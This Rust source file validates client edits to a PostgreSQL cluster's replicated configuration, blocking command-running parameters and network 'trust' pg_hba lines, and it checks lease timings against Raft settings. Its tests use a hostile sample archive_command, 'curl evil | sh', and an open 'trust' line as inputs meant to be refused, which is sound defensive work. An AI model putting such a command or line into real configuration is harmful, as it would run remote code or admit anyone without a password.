//! What a client may write into the replicated `config` key: the one check that both
//! `pgquorumctl` (before sending) and the agent's admin service (on receipt, so no hand-written
//! client bypasses it) run on every `config` write from outside the cluster.
//!
//! Besides the rules of `bootstrap.dcs` (types, timings: [`DynamicConfig::from_json`]):
//! - settings that make PostgreSQL run a command or load a library on every node (the
//!   `archive_command` family, `*_preload_libraries`, the standby cluster's commands) cannot be
//!   changed through the keyspace: they are set in `bootstrap.dcs` before the cluster starts
//!   or in each node's own configuration file, both guarded by the nodes' file permissions;
//! - new `pg_hba` lines may not use `trust` over the network, nor include other files.
//!
//! Values already stored are accepted unchanged, so a cluster bootstrapped with an
//! `archive_command` can still have its `work_mem` edited.

use serde_json::Value;

use super::timing::{secs, ttl_floor_ms, RaftBounds, DEMOTE_BEFORE_DEADLINE_MS, MIN_LOOP_WAIT_MS};
use super::{DynamicConfig, RaftTimings};

/// One agent's Raft timings (from its member key, or the receiving agent's own), named for
/// the messages.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MemberTimings {
    pub name: String,
    pub timings: RaftTimings,
}

impl MemberTimings {
    /// The members' published timings (members of older agents publish none).
    pub fn of_members(members: &[crate::cluster::MemberStatus]) -> Vec<MemberTimings> {
        members
            .iter()
            .filter_map(|m| {
                m.raft_timings.map(|timings| MemberTimings {
                    name: m.name.clone(),
                    timings,
                })
            })
            .collect()
    }

    fn bounds(&self) -> RaftBounds {
        RaftBounds {
            max_clock_skew_ms: self.timings.max_clock_skew_ms as i64,
            worst_election_ms: self.timings.worst_election_ms() as i64,
        }
    }
}

/// PostgreSQL parameters that run a shell command or load code as the `postgres` user.
pub const COMMAND_PARAMETERS: &[&str] = &[
    "archive_command",
    "archive_cleanup_command",
    "restore_command",
    "recovery_end_command",
    "ssl_passphrase_command",
    "shared_preload_libraries",
    "local_preload_libraries",
    "session_preload_libraries",
    "dynamic_library_path",
];

/// Sections of the dynamic configuration holding commands (as above), by path.
const COMMAND_SECTIONS: &[&str] = &[
    "standby_cluster.restore_command",
    "standby_cluster.archive_cleanup_command",
    "postgresql.recovery_conf",
];

/// Validate `after`, a client's new dynamic configuration replacing `before` (`None`: none
/// stored yet), for a cluster whose agents have the Raft timings `members` (every member that
/// publishes them, and the receiving agent's own). Its `ttl` must fit each of them
/// ([`ttl_floor_ms`]); its `loop_wait` is fitted to the most demanding one. Returns the
/// validated configuration and its warnings, or every problem.
pub fn check_config_write(
    before: Option<&Value>,
    after: &Value,
    members: &[MemberTimings],
) -> Result<(DynamicConfig, Vec<String>), Vec<String>> {
    let mut problems = guarded_changes(before, after);
    // The rules without Raft timings first: the ttl they leave is what every member must fit.
    let ttl_ms = match DynamicConfig::from_json(after, None) {
        Ok((config, _)) => config.ttl_ms() as i64,
        Err(more) => {
            problems.extend(more);
            return Err(problems);
        }
    };
    let ttl_kept = before
        .and_then(|b| DynamicConfig::from_json(b, None).ok())
        .is_some_and(|(stored, _)| stored.ttl_ms() as i64 == ttl_ms);
    match too_slow_for(ttl_ms, members) {
        // An edit that leaves the stored ttl alone (a `pause`, a `work_mem`) is not blocked by
        // it, like every value already stored; it says so.
        Some(why) if ttl_kept && problems.is_empty() => {
            let (config, mut warnings) = DynamicConfig::from_json(after, None)?;
            warnings.push(format!(
                "{why} (the stored ttl is kept: this edit does not change it)"
            ));
            return Ok((config, warnings));
        }
        Some(why) => problems.push(why),
        None => {}
    }
    if !problems.is_empty() {
        return Err(problems);
    }
    // The member whose renewals need the longest stall (skew + re-election) bounds loop_wait.
    let slowest = members
        .iter()
        .max_by_key(|m| {
            let b = m.bounds();
            b.max_clock_skew_ms + b.worst_election_ms
        })
        .map(|m| m.timings);
    DynamicConfig::from_json(after, slowest)
}

/// The problem with `ttl_ms` for the members it is too short for, naming the one that needs
/// the longest ttl, with its numbers.
fn too_slow_for(ttl_ms: i64, members: &[MemberTimings]) -> Option<String> {
    let mut short: Vec<(&MemberTimings, i64)> = members
        .iter()
        .map(|m| (m, ttl_floor_ms(m.bounds())))
        .filter(|(_, floor)| ttl_ms < *floor)
        .collect();
    short.sort_by(|a, b| b.1.cmp(&a.1).then_with(|| a.0.name.cmp(&b.0.name)));
    let (worst, floor) = short.first()?;
    let t = worst.timings;
    let others: Vec<&str> = short[1..].iter().map(|(m, _)| m.name.as_str()).collect();
    let also = if others.is_empty() {
        String::new()
    } else {
        format!(" (too short for {} as well)", others.join(", "))
    };
    Some(format!(
        "ttl: {} s is too short for member {}'s Raft timings: a Raft re-election there can take up to {} ms \
         (4 × raft.election_timeout_ms {} + 2 × raft.heartbeat_interval_ms {}) with raft.max_clock_skew_ms {}; \
         a re-election may take at most half of ttl, and the primary's renewals must be able to wait one out \
         plus a loop_wait (at least {} s) before it demotes itself {} ms ahead of ttl − max_clock_skew_ms. ttl \
         must be at least {} s{also}",
        secs(ttl_ms),
        worst.name,
        t.worst_election_ms(),
        t.election_timeout_ms,
        t.heartbeat_interval_ms,
        t.max_clock_skew_ms,
        secs(MIN_LOOP_WAIT_MS),
        DEMOTE_BEFORE_DEADLINE_MS,
        secs(*floor),
    ))
}

fn at<'a>(root: Option<&'a Value>, path: &str) -> Option<&'a Value> {
    path.split('.').try_fold(root?, |node, key| node.get(key))
}

/// `postgresql.parameters` with lower-cased names (PostgreSQL's names are case-insensitive).
fn parameters(root: Option<&Value>) -> Vec<(String, Value)> {
    at(root, "postgresql.parameters")
        .and_then(Value::as_object)
        .map(|m| {
            m.iter()
                .map(|(k, v)| (k.to_ascii_lowercase(), v.clone()))
                .collect()
        })
        .unwrap_or_default()
}

fn guarded_changes(before: Option<&Value>, after: &Value) -> Vec<String> {
    let mut problems = Vec::new();
    let (old, new) = (parameters(before), parameters(Some(after)));
    let value_of = |list: &[(String, Value)], name: &str| -> Vec<Value> {
        list.iter()
            .filter(|(k, _)| k == name)
            .map(|(_, v)| v.clone())
            .collect()
    };
    for name in COMMAND_PARAMETERS {
        if value_of(&old, name) != value_of(&new, name) {
            problems.push(format!(
                "postgresql.parameters.{name}: runs a command or loads code as the postgres user on \
                 every node, so it cannot be changed through the cluster keyspace; set it in \
                 bootstrap.dcs before the cluster starts or in each node's configuration file"
            ));
        }
    }
    // Absent, null and empty are the same setting (the stored form may spell out defaults).
    let setting = |root: Option<&Value>, path: &str| {
        at(root, path)
            .filter(|v| {
                !(v.is_null() || v.as_object().is_some_and(|m| m.is_empty()) || v.as_str() == Some(""))
            })
            .cloned()
    };
    for path in COMMAND_SECTIONS {
        if setting(before, path) != setting(Some(after), path) {
            problems.push(format!(
                "{path}: runs a command as the postgres user, so it cannot be changed through the \
                 cluster keyspace; set it in bootstrap.dcs before the cluster starts"
            ));
        }
    }
    let lines = |root: Option<&Value>| -> Vec<String> {
        at(root, "postgresql.pg_hba")
            .and_then(Value::as_array)
            .map(|l| l.iter().filter_map(Value::as_str).map(normalise_hba).collect())
            .unwrap_or_default()
    };
    let old_lines = lines(before);
    for line in lines(Some(after)) {
        if old_lines.contains(&line) {
            continue;
        }
        if let Some(why) = hba_line_problem(&line) {
            problems.push(format!("postgresql.pg_hba: {line:?}: {why}"));
        }
    }
    problems
}

fn normalise_hba(line: &str) -> String {
    line.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Why a new `pg_hba` line is refused, if it is.
pub fn hba_line_problem(line: &str) -> Option<&'static str> {
    let words: Vec<String> = line
        .split_whitespace()
        .take_while(|w| !w.starts_with('#'))
        .map(str::to_ascii_lowercase)
        .collect();
    let kind = words.first()?;
    if kind.starts_with("include") {
        return Some("include lines make PostgreSQL read other files; refused from the keyspace");
    }
    // type database user [address [mask]] method [options]: after the first three words, a
    // `trust` method over anything but the local socket lets anyone in without a password.
    if kind != "local" && words.iter().skip(3).any(|w| w == "trust") {
        return Some(
            "trust over the network lets anyone who can reach PostgreSQL in without a password; \
             use scram-sha-256 or cert (trust is accepted for local socket lines only)",
        );
    }
    None
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn command_parameters_and_trust_lines_are_refused_unless_unchanged() {
        let before = json!({"postgresql": {"parameters": {"archive_command": "cp %p /a/%f"}}});
        let ok = json!({"postgresql": {"parameters": {"archive_command": "cp %p /a/%f", "work_mem": "8MB"}}});
        assert!(check_config_write(Some(&before), &ok, &[]).is_ok());
        let changed = json!({"postgresql": {"parameters": {"ARCHIVE_COMMAND": "curl evil | sh"}}});
        let err = check_config_write(Some(&before), &changed, &[]).unwrap_err();
        assert!(err[0].contains("archive_command"), "{err:?}");
        let added = json!({"postgresql": {"parameters": {"archive_cleanup_command": "x"}}});
        assert!(check_config_write(None, &added, &[]).is_err());
        let standby = json!({"standby_cluster": {"host": "h", "restore_command": "x"}});
        assert!(check_config_write(None, &standby, &[]).is_err());
        let defaults = json!({"postgresql": {"recovery_conf": {}}, "standby_cluster": null});
        assert!(check_config_write(None, &defaults, &[]).is_ok());
        // What is accepted is accepted again in its stored form (found by tests/fuzz_inputs.rs:
        // an empty standby_cluster was stored as a section of nulls, then refused).
        let (stored, _) = check_config_write(None, &defaults, &[]).unwrap();
        let stored = stored.to_json();
        assert!(
            check_config_write(Some(&stored), &stored, &[]).is_ok(),
            "{stored}"
        );

        let trust = json!({"postgresql": {"pg_hba": ["host all all 0.0.0.0/0 trust"]}});
        let err = check_config_write(None, &trust, &[]).unwrap_err();
        assert!(err[0].contains("trust over the network"), "{err:?}");
        let local = json!({"postgresql": {"pg_hba": ["local all all trust", "host all all 10.0.0.0/8 scram-sha-256"]}});
        assert!(check_config_write(None, &local, &[]).is_ok());
        // A line already stored (bootstrap.dcs) stays acceptable.
        assert!(check_config_write(Some(&trust), &trust, &[]).is_ok());
        assert!(hba_line_problem("include_dir /etc").is_some());
        assert!(hba_line_problem("hostssl all all ::1/128 trust").is_some());
        assert!(hba_line_problem("host trust all 10.0.0.1/32 md5").is_none());
    }

    #[test]
    fn timings_are_checked_as_in_bootstrap_dcs() {
        let bad = json!({"ttl": 0.1});
        assert!(check_config_write(None, &bad, &[]).is_err());
        assert!(check_config_write(None, &json!({"ttl": "soon"}), &[]).is_err());
        // Found by tests/fuzz_inputs.rs: this overflowed (a panic) in the timing rules.
        assert!(check_config_write(None, &json!({"loop_wait": 9_223_372_036_854_775_u64}), &[]).is_err());
        assert!(check_config_write(None, &json!({"ttl": -9.0e15}), &[]).is_err());
    }

    fn member(
        name: &str,
        election_timeout_ms: u64,
        heartbeat_interval_ms: u64,
        max_clock_skew_ms: u64,
    ) -> MemberTimings {
        MemberTimings {
            name: name.into(),
            timings: RaftTimings {
                election_timeout_ms,
                heartbeat_interval_ms,
                max_clock_skew_ms,
            },
        }
    }

    /// Issue 9, hole 13: a timing edit is checked against every member's Raft timings and
    /// clock-skew bound, not only Patroni's rule (which `ttl: 1` with a short loop_wait passes).
    #[test]
    fn ttl_must_fit_every_members_raft_timings() {
        let defaults = || member("node1", 250, 50, 250); // floor 2.2 s (2 × 1100 ms)
        let slow = || member("node3", 1_000, 50, 250); // worst 4100 ms: floor 8.2 s
        let skewed = || member("node2", 250, 50, 2_000); // 2000 + 600 + 1100 + 100: floor 3.8 s
                                                         // (edit, members, refused naming, accepted loop_wait)
        type Row = (
            &'static str,
            serde_json::Value,
            Vec<MemberTimings>,
            Option<&'static str>,
            Option<f64>,
        );
        let rows: Vec<Row> = vec![
            (
                "ttl 1 passes Patroni's rule with a short loop_wait, and no member is known",
                json!({"ttl": 1, "loop_wait": 0.2, "retry_timeout": 0.2}),
                vec![],
                None,
                Some(0.2),
            ),
            (
                "ttl 1 against default Raft timings: refused, naming the member and its numbers",
                json!({"ttl": 1, "loop_wait": 0.2, "retry_timeout": 0.2}),
                vec![defaults()],
                Some(
                    "ttl: 1 s is too short for member node1's Raft timings: a Raft re-election there can take \
                     up to 1100 ms (4 × raft.election_timeout_ms 250 + 2 × raft.heartbeat_interval_ms 50) with \
                     raft.max_clock_skew_ms 250",
                ),
                None,
            ),
            (
                "the slowest member is named, the others listed",
                json!({"ttl": 3}),
                vec![defaults(), slow(), skewed()],
                Some("too short for member node3's Raft timings"),
                None,
            ),
            (
                "its floor is given",
                json!({"ttl": 3}),
                vec![defaults(), slow(), skewed()],
                Some("ttl must be at least 8.2 s (too short for node2 as well)"),
                None,
            ),
            (
                "a clock-skew bound counts too",
                json!({"ttl": 3, "loop_wait": 1, "retry_timeout": 1}),
                vec![defaults(), skewed()],
                Some("member node2's Raft timings"),
                None,
            ),
            (
                "fits every member: accepted, loop_wait fitted to the most demanding (skewed: 10 − 2 − 0.6 − 1.1 = 6.3 → 6 s)",
                json!({"ttl": 10, "loop_wait": 8, "retry_timeout": 1}),
                vec![defaults(), skewed()],
                None,
                Some(6.0),
            ),
            (
                "defaults fit the default lease",
                json!({"ttl": 30, "loop_wait": 10, "retry_timeout": 10}),
                vec![defaults(), member("node2", 250, 50, 250)],
                None,
                Some(10.0),
            ),
        ];
        // A stored ttl that a member's timings do not fit (that member joined later) does not
        // block an edit leaving it alone; it is a warning.
        let stored = json!({"ttl": 3, "loop_wait": 1, "retry_timeout": 1});
        let pause = json!({"ttl": 3, "loop_wait": 1, "retry_timeout": 1, "pause": true});
        let (config, warnings) =
            check_config_write(Some(&stored), &pause, &[slow()]).expect("pause accepted");
        assert!(config.pause);
        assert!(
            warnings
                .iter()
                .any(|w| w.contains("member node3's Raft timings") && w.contains("stored ttl is kept")),
            "{warnings:?}"
        );
        let shorter = json!({"ttl": 2.5, "loop_wait": 1, "retry_timeout": 0.5});
        assert!(check_config_write(Some(&stored), &shorter, &[slow()]).is_err());
        for (name, edit, members, refused, loop_wait) in rows {
            match (check_config_write(None, &edit, &members), refused) {
                (Err(problems), Some(part)) => {
                    assert_eq!(problems.len(), 1, "{name}: {problems:?}");
                    assert!(problems[0].contains(part), "{name}: {}", problems[0]);
                }
                (Ok((config, _)), None) => assert_eq!(Some(config.loop_wait), loop_wait, "{name}"),
                (got, _) => panic!("{name}: {got:?}"),
            }
        }
    }
}
